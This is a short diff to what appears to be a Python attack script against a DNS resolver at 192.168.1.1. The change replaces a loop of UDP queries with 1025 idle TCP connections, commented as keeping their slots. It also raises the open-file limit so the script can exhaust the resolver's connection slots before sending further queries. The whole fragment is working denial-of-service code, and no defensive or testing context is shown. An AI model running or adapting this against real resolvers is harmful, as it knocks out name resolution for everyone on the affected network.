@@ -147,11 +147,8 @@ def query(name): return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"".join(byte
 held = []
 import resource
 resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
-for _ in range(1100):
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.2); s.connect(("192.168.1.1", 53)); s.send(query("packages.lan")); held.append(s)
-    try: s.recv(512)
-    except OSError: pass
-    if len(held) > 1024: break
+for _ in range(1025): # connections that say nothing keep their slots
+    held.append(socket.create_connection(("192.168.1.1", 53), 5))
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5); s.connect(("192.168.1.1", 53))
 for i in range(3):
     s.send(query("hidden%d.example" % i))
